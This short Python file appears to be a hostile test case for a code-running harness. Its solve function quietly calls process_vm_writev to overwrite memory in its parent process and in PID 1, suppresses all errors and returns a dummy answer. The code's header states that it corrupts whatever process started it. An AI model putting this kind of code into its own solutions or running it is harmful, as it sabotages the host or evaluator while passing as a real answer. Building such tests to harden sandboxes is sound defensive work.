"""Overwrites the worker's memory with process_vm_writev: the fork has told it the addresses."""
# kind: call
# class: trace-worker
# may: WRONG CRASH TIMEOUT
# danger: corrupts whatever process started it
import ctypes
import os
from contextlib import suppress


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def solve(n):
    with suppress(Exception):
        libc = ctypes.CDLL(None)
        junk = ctypes.create_string_buffer(b"\x41" * 4096, 4096)
        target = id(__builtins__) & ~0xFFF
        mine, theirs = Span(ctypes.addressof(junk), 4096), Span(target, 4096)
        for pid in (os.getppid(), 1):
            libc.process_vm_writev(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return 0
